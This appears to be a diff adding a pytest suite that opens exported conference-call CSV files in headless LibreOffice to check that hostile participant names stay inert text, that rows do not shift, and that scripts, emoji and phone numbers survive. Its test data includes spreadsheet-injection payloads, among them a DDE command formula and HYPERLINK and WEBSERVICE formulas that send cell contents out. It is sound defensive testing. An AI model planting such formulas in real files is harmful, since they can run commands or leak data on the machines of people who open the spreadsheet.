@@ -1,0 +1,145 @@
+"""What a spreadsheet shows of the files: LibreOffice reads them and writes what it made of each cell.
+
+Not a part of `make test`, for LibreOffice is large. On Debian: apt-get install --no-install-recommends libreoffice-calc
+"""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+import xml.etree.ElementTree as ET
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import date, datetime
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import Collector, environment_for
+from tests.management_node import ManagementNode, calls, conference, participant
+
+OFFICE = shutil.which("soffice")
+pytestmark = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not here (apt-get install libreoffice-calc)")
+
+MIDNIGHT = datetime(2026, 11, 24, 0, 0, 20)
+FORMULAS = ["=1+1", '=HYPERLINK("http://example.com/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+1",
+            "-2+3", "\t=1+1", "\r=1+1", "=WEBSERVICE(A1)", "a\n=1+1", "x\r\n=1+1,=2+2", '"=1+1', '",=1+1,"']  # fmt: skip
+SCRIPTS = ["山田 太郎", "محمد بن سلمان", "प्रिया शर्मा", "Łukasz Żółć", "👩‍💻 Dev Room 🚀", "🇳🇴 Oslo", "Cafe\u0301"]
+PHONES = ["+4722334455", "+47 22 33 44 55", "-"]
+# tokens of the CSV filter: separator (44 is a comma, 59 a semicolon), quote ("), character set (76 is UTF-8)
+COMMA, SEMICOLON = "CSV:44,34,76", "CSV:59,34,76"
+
+OFFICE_NS, TABLE, TEXT = (f"{{urn:oasis:names:tc:opendocument:xmlns:{n}:1.0}}" for n in ("office", "table", "text"))
+
+
+@dataclass(frozen=True)
+class Cell:
+    kind: str  # float, string, date ...
+    text: str
+    formula: str | None
+
+
+def shown(file: Path, how: str, folder: Path) -> list[list[Cell]]:
+    """The sheet that LibreOffice makes of the file, row by row."""
+    command = [str(OFFICE), f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"]
+    command += [f"--infilter={how}", "--convert-to", "fods", "--outdir", str(folder), str(file)]
+    done = subprocess.run(command, capture_output=True, encoding="utf-8", timeout=180)
+    made = folder / f"{file.stem}.fods"
+    assert made.exists(), done.stdout + done.stderr
+    rows = []
+    for row in ET.parse(made).getroot().iter(f"{TABLE}table-row"):
+        cells: list[Cell] = []
+        for cell in row.findall(f"{TABLE}table-cell"):
+            text = "\n".join(map(written, cell.findall(f"{TEXT}p")))
+            one = Cell(cell.get(f"{OFFICE_NS}value-type", ""), text, cell.get(f"{TABLE}formula"))
+            cells += [one] * int(cell.get(f"{TABLE}number-columns-repeated", "1"))
+        rows.append(cells)
+    made.unlink()
+    while rows and not any(cell.kind for cell in rows[-1]):
+        rows.pop()
+    return rows
+
+
+def written(line: ET.Element) -> str:
+    """A line's text; several spaces and tabs are elements of their own."""
+    parts = [line.text or ""]
+    for child in line:
+        parts.append({"s": " " * int(child.get(f"{TEXT}c", "1")), "tab": "\t"}.get(child.tag.partition("}")[2], ""))
+        parts += [written(child), child.tail or ""]
+    return "".join(parts)
+
+
+@pytest.fixture(scope="module", params=[False, True], ids=["without a mark", "with a mark"])
+def collected(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Collector]:
+    """The files of a day of hostile calls."""
+    folder = tmp_path_factory.mktemp("collected")
+    data = folder / "data"
+    data.mkdir()
+    held = conference(name="=1+1", tag="@x")
+    present = [participant(held, display_name=name) for name in (*FORMULAS, *SCRIPTS, *PHONES)]
+    with ManagementNode(now=MIDNIGHT) as node:
+        node.load(calls(seed=31, day=date(2026, 11, 23), conferences=80))
+        node.add([held], present)
+        run = Collector(data, environment_for(node, data))
+        run.env |= {"DATA_CSV_BOM": str(request.param).lower(), "DATA_MEDIA_STREAMS": "true"}
+        run.at(MIDNIGHT)
+        assert run().code == 0
+        yield run
+
+
+@pytest.mark.parametrize("kind", ["Conf", "Part", "Stream"])
+def test_no_formula_runs_no_row_shifts_and_every_text_is_as_it_is_in_the_file(
+    collected: Collector, tmp_path: Path, kind: str
+) -> None:
+    wanted = collected.table(f"pexHistory{kind}.csv")
+    found = shown(collected.data / f"pexHistory{kind}.csv", COMMA, tmp_path)
+    assert [cell.formula for row in found for cell in row if cell.formula] == []
+    assert len(found) == len(wanted)
+    for row, cells in zip(wanted, found, strict=True):
+        padded = [cell.text for cell in cells] + [""] * (len(row) - len(cells))
+        assert not any(padded[len(row) :]), "nothing beyond the last column"
+        for name, text, cell in zip(wanted[0], row, cells, strict=False):
+            if cell.kind == "string":
+                assert same_text(cell.text, text), name
+
+
+def same_text(shown: str, text: str) -> bool:
+    """A sheet knows one kind of line end and shows no control characters; the rest is to be the same."""
+
+    def plain(text: str) -> str:
+        return "".join(text.replace("\r\n", "\n").replace("\r", "\n").split())
+
+    return plain(shown) == plain(text)
+
+
+def test_scripts_and_emoji_are_intact(collected: Collector, tmp_path: Path) -> None:
+    found = shown(collected.data / "pexHistoryPart.csv", COMMA, tmp_path)
+    place = [cell.text for cell in found[0]].index("display_name")
+    assert set(SCRIPTS) <= {row[place].text for row in found}
+    assert found[0][0].text == collected.table("pexHistoryPart.csv")[0][0], "no mark in the first column's name"
+
+
+def test_a_guarded_name_is_text_with_its_apostrophe_and_a_telephone_number_is_whole(
+    collected: Collector, tmp_path: Path
+) -> None:
+    found = shown(collected.data / "pexHistoryPart.csv", COMMA, tmp_path)
+    place = [cell.text for cell in found[0]].index("display_name")
+    names = {row[place].text: row[place].kind for row in found}
+    for name in ("=1+1", "@SUM(A1:A9)", "+1+1", "-2+3", "=WEBSERVICE(A1)"):
+        assert names.get(f"'{name}") == "string"
+    assert names.get("+47 22 33 44 55") == "string"
+    assert names.keys() & {"+4722334455", "4722334455"}
+
+
+def test_times_are_times(collected: Collector, tmp_path: Path) -> None:
+    found = shown(collected.data / "pexHistoryConf.csv", COMMA, tmp_path)
+    header = [cell.text for cell in found[0]]
+    for name in ("start_time", "end_time"):
+        assert {row[header.index(name)].kind for row in found[1:]} == {"date"}
+
+
+def test_read_by_semicolons_the_columns_run_together_which_is_why_the_page_says_to_choose_the_comma(
+    collected: Collector, tmp_path: Path
+) -> None:
+    found = shown(collected.data / "pexHistoryConf.csv", SEMICOLON, tmp_path)
+    assert found[0][0].text.count(",") > 5
